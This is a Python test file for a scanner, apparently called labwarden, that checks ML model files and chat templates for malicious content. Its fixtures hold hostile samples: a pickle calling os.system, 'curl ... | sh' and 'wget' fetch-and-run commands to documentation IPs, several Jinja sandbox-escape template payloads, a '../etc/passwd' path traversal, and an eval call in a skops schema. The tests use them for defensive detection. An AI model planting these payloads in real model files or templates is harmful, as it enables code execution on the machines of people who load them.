"""Other formats: NumPy, safetensors, GGUF, chat templates, Keras, TF SavedModel, ONNX, skops."""

from __future__ import annotations

import json
import struct
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labwarden.checks.modelfile.samples import gguf, npy, onnx_model, safetensors
from labwarden.checks.modelfile.templates import analyze_template
from labwarden.core.values import Severity

from .builders import (
    gguf_bytes,
    npy_object,
    rules,
    safetensors_bytes,
    scan,
    stack_global_call,
    worst,
    zip_bytes,
)

EVIL = stack_global_call("os", "system", "id")
HF_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
    "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate') }}"
    "{% endif %}{% set ns = namespace(found=false) %}{{ '[INST] ' + message['content'] | trim "
    "+ ' [/INST]' }}{% endfor %}"
)


def test_npy_numeric_is_clean_and_object_array_pickle_is_scanned() -> None:
    assert scan(npy([1.0, 2.0]), "x.npy") == []
    found = scan(npy_object(EVIL), "x.npy")
    assert {"object-array", "dangerous-import"} <= rules(found)
    assert worst(found) is Severity.CRITICAL


def test_npz_members() -> None:
    data = zip_bytes({"a.npy": npy([1.0]), "b.npy": npy_object(EVIL)})
    (finding,) = [f for f in scan(data, "arrays.npz") if f.rule == "dangerous-import"]
    assert finding.location.member == "b.npy"


def test_npy_bad_header() -> None:
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", 20) + b"__import__('os')    "
    assert rules(scan(data, "x.npy")) == {"npy-header"}


def test_safetensors_clean_and_header_checks() -> None:
    assert scan(safetensors({"w": (2, 2)}, b"\x01\x02\x03\x04"), "m.safetensors") == []
    overlap = safetensors_bytes(
        {
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
        },
        b"\x00" * 12,
    )
    found = scan(overlap, "m.safetensors")
    assert worst(found) is Severity.HIGH and "overlap" in found[0].message
    oob = safetensors_bytes(
        {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8
    )
    assert "run past" in scan(oob, "m.safetensors")[0].message
    huge = struct.pack("<Q", 200 << 20) + b'{"a": 1}' + b"\x00" * 16
    assert worst(scan(huge, "m.safetensors")) is Severity.HIGH


def test_safetensors_metadata_payloads_are_medium() -> None:
    data = safetensors_bytes(
        {
            "__metadata__": {"setup": "rm -rf /tmp/x && wget http://198.51.100.7/p.sh"},
            "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        },
        b"\x00" * 4,
    )
    found = scan(data, "m.safetensors")
    assert rules(found) == {"suspicious-metadata"}
    assert worst(found) is Severity.MEDIUM


def test_gguf_templates() -> None:
    benign = gguf({"general.architecture": "llama", "tokenizer.chat_template": HF_TEMPLATE})
    assert scan(benign, "m.gguf") == []
    evil = gguf_bytes(
        {
            "general.architecture": "llama",
            "tokenizer.chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        }
    )
    found = scan(evil, "m.gguf")
    assert worst(found) is Severity.CRITICAL
    assert "tokenizer.chat_template" in found[0].message


def test_gguf_malformed_lengths_are_bounded() -> None:
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60)
    assert rules(scan(data, "m.gguf")) == {"gguf-header"}
    flood = b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 40)
    assert worst(scan(flood, "m.gguf")) is Severity.HIGH


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('id') }}",
        "{{ request['application']['__globals__']['__builtins__']['eval']('1') }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{{ joiner.__init__.__globals__.os.system('id') }}",
        "{{ namespace.__init__.__globals__['__builtins__']['__import__']('os') }}",
    ],
)
def test_template_escapes_are_critical(template: str) -> None:
    issues = analyze_template(template)
    assert max(i.severity for i in issues) is Severity.CRITICAL


@pytest.mark.parametrize(
    "template",
    [
        HF_TEMPLATE,
        "{% for message in messages %}{{ message.class }}: {{ message['content'] }}{% endfor %}",
        "{%- if messages[0]['role'] == 'system' -%}{{ messages[0]['content'] | tojson }}"
        "{%- endif -%}",
        "plain text without expressions, mentions __class__ and os.system in prose",
    ],
)
def test_benign_templates_are_clean(template: str) -> None:
    assert analyze_template(template) == []


def test_tokenizer_config_and_standalone_template_files() -> None:
    config = json.dumps({"chat_template": "{{ config.__class__.__init__.__globals__ }}"})
    assert worst(scan(config.encode(), "tokenizer_config.json")) is Severity.CRITICAL
    named = json.dumps({"chat_template": [{"name": "tool_use", "template": "{{ x.__globals__ }}"}]})
    assert worst(scan(named.encode(), "tokenizer_config.json")) is Severity.CRITICAL
    assert worst(scan(b"{{ cycler.__init__.__globals__ }}", "chat.jinja")) is Severity.CRITICAL
    assert scan(json.dumps({"chat_template": HF_TEMPLATE}).encode(), "tokenizer_config.json") == []


def test_config_values() -> None:
    config = {"name": "m", "hook": "curl http://203.0.113.8/x.sh | sh", "lr": 0.1}
    found = scan(json.dumps(config).encode(), "config.json")
    assert rules(found) == {"suspicious-config"} and worst(found) is Severity.MEDIUM
    clean = {"architectures": ["Bert"], "url": "https://huggingface.co/bert-base-uncased"}
    assert scan(json.dumps(clean).encode(), "config.json") == []


def _fake_h5(config: Mapping[str, object]) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 64 + b"model_config" + json.dumps(config).encode()


def test_keras_h5_lambda_and_custom_objects() -> None:
    lam = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {"class_name": "Dense", "config": {"name": "d", "units": 4}},
                {
                    "class_name": "Lambda",
                    "config": {"name": "l", "function": ["4wEAAAAA", None, None]},
                },
            ]
        },
    }
    found = scan(_fake_h5(lam), "model.h5")
    assert "keras-lambda" in rules(found) and worst(found) is Severity.CRITICAL
    custom = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": "EvilLayer", "config": {}}]},
    }
    found = scan(_fake_h5(custom), "model.h5")
    assert rules(found) == {"keras-custom-object"}
    clean = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": "Dense", "config": {}}]},
    }
    assert scan(_fake_h5(clean), "model.h5") == []


def test_keras_v3_archive() -> None:
    config = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "x"}}]
        },
    }
    data = zip_bytes(
        {
            "config.json": json.dumps(config).encode(),
            "metadata.json": b"{}",
            "model.weights.h5": b"",
        }
    )
    assert "keras-lambda" in rules(scan(data, "model.keras"))


def _field(number: int, payload: bytes) -> bytes:
    return bytes([(number << 3) | 2, len(payload)]) + payload


def test_tf_savedmodel_pyfunc() -> None:
    node = _field(1, b"bad") + _field(2, b"EagerPyFunc")
    data = _field(2, _field(2, _field(1, node)))
    found = scan(data, "saved_model.pb")
    assert worst(found) is Severity.CRITICAL and "EagerPyFunc" in found[0].message
    clean = _field(2, _field(2, _field(1, _field(1, b"c") + _field(2, b"Const"))))
    assert scan(clean, "saved_model.pb") == []


def test_onnx_external_data_and_custom_domain() -> None:
    assert scan(onnx_model("pytorch"), "m.onnx") == []
    entry = _field(1, b"location") + _field(2, b"../../../../etc/passwd")
    tensor = _field(8, b"w") + _field(13, entry) + bytes([14 << 3, 1])
    node = _field(4, b"Evil") + _field(7, b"com.attacker")
    graph = _field(1, node) + _field(5, tensor)
    data = b"\x08\x08" + _field(7, graph)
    found = scan(data, "m.onnx")
    assert {"onnx-external-data", "onnx-custom-op"} <= rules(found)
    assert worst(found) is Severity.HIGH


def test_skops_schema() -> None:
    schema = {
        "__class__": "Pipeline",
        "__module__": "sklearn.pipeline",
        "__loader__": "ObjectNode",
        "content": {
            "fn": {"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode"},
        },
    }
    data = zip_bytes({"schema.json": json.dumps(schema).encode()})
    found = scan(data, "model.skops")
    assert worst(found) is Severity.CRITICAL
    assert found[0].evidence["callable"] == "builtins.eval"


@settings(max_examples=100, deadline=None)
@given(
    st.binary(max_size=300),
    st.sampled_from(
        [
            "m.safetensors",
            "m.gguf",
            "m.onnx",
            "x.npy",
            "m.h5",
            "saved_model.pb",
            "m.pt",
            "m.keras",
            "tokenizer_config.json",
        ]
    ),
)
def test_random_bytes_in_any_format_never_raise(data: bytes, name: str) -> None:
    prefixes = {
        "m.gguf": b"GGUF\x03\x00\x00\x00",
        "x.npy": b"\x93NUMPY\x01\x00",
        "m.h5": b"\x89HDF\r\n\x1a\n",
        "m.pt": b"PK\x03\x04",
    }
    found = scan(prefixes.get(name, b"") + data, name)
    assert all(f.rule != "scan-error" for f in found), [f.message for f in found]
